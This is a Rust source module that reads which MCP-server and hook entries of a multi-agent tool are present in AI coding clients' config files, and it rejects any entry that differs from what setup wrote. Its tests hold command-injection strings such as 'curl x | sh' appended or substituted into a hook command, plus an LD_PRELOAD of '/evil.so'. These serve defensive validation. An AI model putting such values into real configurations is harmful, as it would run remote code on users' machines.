//! What a client runs of ours, read from its own files: what really is there, not what should be.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use serde_json::Value;

use super::command::{self, OurHook};
use super::document::{Document, at, keys};
use super::parts::parts;
use super::{Disk, Level, Setup, What, hooks};
use crate::hooks::Hooks;
use crate::plugin;
use crate::profile::Mcp;
use crate::template::{Fill, fill_text};

/// What our variables begin with.
const OUR_VARIABLES: &str = "INTERAGENT_";

/// What an entry of a client's file has it run. The files come with a project: whoever reads this runs only our own program.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Runs {
    /// The program, as it is written there.
    pub program: String,
    /// The arguments, where they are exactly such as setup writes.
    pub arguments: Option<Vec<String>>,
    /// All of it, for people.
    pub shown: String,
}

/// Our MCP server in a client's list.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Server {
    /// The client starts it.
    Starts {
        /// What is run.
        runs: Runs,
        /// Those of our variables that it gets.
        env: BTreeMap<String, String>,
    },
    /// The client connects to it.
    Remote,
}

/// A hook of ours.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Configured {
    /// What the client calls the event.
    pub event: String,
    /// It sleeps until there is something to say.
    pub wait: bool,
    /// What is run.
    pub runs: Runs,
}

/// What a client has of ours.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Configuration {
    /// In its list of MCP servers, and in which file.
    pub server: Option<(Server, PathBuf)>,
    /// Its hooks.
    pub hooks: Vec<Configured>,
    /// The files with the hooks.
    pub hook_files: Vec<PathBuf>,
}

impl Configuration {
    /// Whether nothing of ours is there.
    pub fn is_empty(&self) -> bool {
        self.server.is_none() && self.hooks.is_empty()
    }
}

/// Reads what a client has of ours, in the project's files and in the user's. A file that can't be read has nothing.
pub fn configured(setup: &Setup<'_>, disk: &dyn Disk) -> Configuration {
    let mut found = Configuration::default();
    let mut looked_at = Vec::new();
    for level in [Level::Project, Level::User] {
        for part in parts(&Setup { level, ..*setup }, disk) {
            let is_new = !looked_at.contains(&(part.what, part.named.clone()));
            if !is_new || !matches!(part.what, What::Mcp | What::Hooks) {
                continue;
            }
            looked_at.push((part.what, part.named.clone()));
            let Ok(Some(text)) = disk.read(&part.named) else { continue };
            match (part.what, &setup.profile.mcp, &setup.profile.hooks) {
                (What::Mcp, Some(mcp), _) if found.server.is_none() => {
                    found.server = server(mcp, &text).map(|server| (server, part.named));
                }
                (What::Hooks, _, Some(theirs)) => {
                    let ours = of_hooks(setup, theirs, &text);
                    if !ours.is_empty() {
                        found.hook_files.push(part.named);
                    }
                    found.hooks.extend(ours);
                }
                _ => {}
            }
        }
    }
    found
}

/// The events whose hooks are written and not trusted yet, by the client's own record. A client without such a record
/// trusts them all.
pub fn untrusted(setup: &Setup<'_>, disk: &dyn Disk) -> Vec<String> {
    let hooks = setup.profile.hooks.as_ref();
    let (Some(trust), Some(home)) = (hooks.and_then(|hooks| hooks.trust.as_ref()), setup.home) else {
        return Vec::new();
    };
    let record = home.join(trust.user.trim_start_matches("~/"));
    let text = disk.read(&record).ok().flatten().unwrap_or_default();
    let value = Document::parse(trust.format, &text).map(|document| document.value()).unwrap_or_default();
    let table = at(&value, &keys(&trust.at)).and_then(Value::as_object);
    let is_trusted =
        |beginning: &str| table.is_some_and(|table| table.keys().any(|key| key.starts_with(beginning)));
    let found = configured(setup, disk);
    let mut events = Vec::new();
    for configured in &found.hooks {
        let event = snake_case(&configured.event);
        let any = found.hook_files.iter().any(|file| {
            let file = file.display().to_string();
            let values = [("{file}", Fill::Text(&file)), ("{event}", Fill::Text(&event))];
            is_trusted(&fill_text(&trust.key, &values))
        });
        if !any && !events.contains(&configured.event) {
            events.push(configured.event.clone());
        }
    }
    events
}

/// `PreToolUse` as `pre_tool_use`.
fn snake_case(name: &str) -> String {
    let mut snake = String::new();
    for c in name.chars() {
        if c.is_ascii_uppercase() && !snake.is_empty() {
            snake.push('_');
        }
        snake.push(c.to_ascii_lowercase());
    }
    snake
}

fn server(mcp: &Mcp, text: &str) -> Option<Server> {
    let value = Document::parse(mcp.format, text).ok()?.value();
    let entry = at(&value, &keys(&mcp.at))?;
    if ["url", "httpUrl", "uri"].iter().any(|field| entry.get(field).is_some()) {
        return Some(Server::Remote);
    }
    let variables = ["env", "environment", "envs"].iter().find_map(|field| entry.get(field)?.as_object());
    let ours = |(name, value): (&String, &Value)| match name.starts_with(OUR_VARIABLES) {
        true => Some((name.clone(), value.as_str()?.to_owned())),
        false => None,
    };
    let env = variables.into_iter().flatten().filter_map(ours).collect();
    Some(Server::Starts { runs: runs(entry, &["mcp".to_owned()])?, env })
}

fn of_hooks(setup: &Setup<'_>, theirs: &Hooks, text: &str) -> Vec<Configured> {
    let profile = &setup.profile.name;
    if theirs.file.is_some() {
        let Some(binary) = plugin::binary_of(text) else { return Vec::new() };
        let agent = plugin::agent_of(text);
        let written = theirs.file.as_deref().and_then(plugin::text);
        let is_as_written = written.is_some_and(|written| {
            plugin::filled(written, profile, Path::new(&binary), agent.as_deref()) == text
        });
        let of = |event: &crate::hooks::Event| {
            let (event, wait) = (event.name.clone(), event.means.is_wait());
            let hook = OurHook { profile: profile.clone(), event: event.clone(), wait, agent: agent.clone() };
            let arguments = is_as_written.then(|| hook.arguments());
            let shown = match is_as_written {
                true => binary.clone(),
                false => "a plugin that setup did not write".to_owned(),
            };
            Configured { event, wait, runs: Runs { program: binary.clone(), arguments, shown } }
        };
        return theirs.events.iter().map(of).collect();
    }
    let Ok(document) = Document::parse(theirs.format, text) else { return Vec::new() };
    let value = document.value();
    let found = hooks::ours(&value, theirs, profile, setup.binary);
    let configured = |(hook, element): (OurHook, &Value)| {
        let runs = runs(element, &hook.arguments())?;
        Some(Configured { event: hook.event, wait: hook.wait, runs })
    };
    found.into_iter().filter_map(configured).collect()
}

/// What an element has its client run, compared with the arguments it should have.
fn runs(element: &Value, wanted: &[String]) -> Option<Runs> {
    let words = command::words_of(element)?;
    let (program, arguments) = words.split_first()?;
    let is_wanted = arguments == wanted && command::is_plain(element);
    let shown = words.join(" ");
    Some(Runs { program: program.clone(), arguments: is_wanted.then(|| wanted.to_vec()), shown })
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;
    use crate::Profiles;
    use crate::setup::Pin;
    use crate::setup::{RealDisk, plan};

    /// Sets a client up in a directory and reads it back.
    fn read_back(name: &str) -> (Configuration, usize) {
        let home = tempfile::tempdir().unwrap();
        let profile = Profiles::shipped().get(name).unwrap();
        let setup = Setup {
            profile: &profile,
            level: Level::User,
            binary: Path::new("/opt/a b/interagent"),
            agent: Pin::Agent("bob"),
            project: &home.path().join("project"),
            home: Some(home.path()),
        };
        assert!(configured(&setup, &RealDisk).is_empty());
        for change in plan(&[setup], &RealDisk).changes {
            std::fs::create_dir_all(change.path.parent().unwrap()).unwrap();
            std::fs::write(change.path, change.after).unwrap();
        }
        (configured(&setup, &RealDisk), profile.hooks.unwrap().events.len())
    }

    #[test]
    fn what_setup_wrote_is_read_back_for_every_client() {
        for name in ["claude", "kimi", "kimi-cli", "codex", "gemini", "opencode", "qwen", "copilot"] {
            let (found, events) = read_back(name);
            let Some((Server::Starts { runs, env }, _)) = &found.server else { panic!("{name}: {found:?}") };
            assert_eq!(runs.program, "/opt/a b/interagent", "{name}");
            assert_eq!(runs.arguments.as_deref(), Some(&["mcp".to_owned()][..]), "{name}");
            // The hooks say which agent it is; the server is known by the session.
            assert!(env.is_empty(), "{name}: {env:?}");
            assert_eq!(found.hooks.len(), events, "{name}: {found:?}");
            for hook in &found.hooks {
                let mut words = vec!["hook", name, &hook.event];
                words.extend(hook.wait.then_some("--wait"));
                words.extend(["--agent", "bob"]);
                assert_eq!(hook.runs.program, "/opt/a b/interagent", "{name}");
                assert_eq!(hook.runs.arguments.as_ref().map(|given| given.join(" ")), Some(words.join(" ")));
            }
        }
    }

    #[test]
    fn anything_beyond_our_words_is_not_ours() {
        let wanted = ["hook", "kimi", "Stop"].map(str::to_owned);
        let is_ours = |element: Value| runs(&element, &wanted).unwrap().arguments.is_some();
        assert!(is_ours(json!({"command": "'/a b/interagent' hook kimi Stop"})));
        assert!(is_ours(json!({"command": "interagent", "args": ["hook", "kimi", "Stop"]})));
        for line in [
            "interagent hook kimi Stop; curl x | sh",
            "interagent hook kimi Stop ; curl x",
            "interagent hook kimi Stop $(curl x)",
            "$(curl x)/interagent hook kimi Stop",
            "`curl x`/interagent hook kimi Stop",
            "interagent hook kimi Stop\ncurl x",
            "interagent hook kimi\nStop",
            "X=1 interagent hook kimi Stop",
            "interagent hook kimi Stop --unknown",
        ] {
            assert!(!is_ours(json!({"command": line})), "{line}");
        }
        let env = json!({"mcpServers": {"interagent": {"command": "x", "args": ["mcp"],
            "env": {"LD_PRELOAD": "/evil.so", "INTERAGENT_AGENT": "bob"}}}});
        let claude = Profiles::shipped().get("claude").unwrap();
        let Some(Server::Starts { env, .. }) = server(&claude.mcp.unwrap(), &env.to_string()) else {
            panic!()
        };
        assert_eq!(env.keys().collect::<Vec<_>>(), ["INTERAGENT_AGENT"]);
    }
}
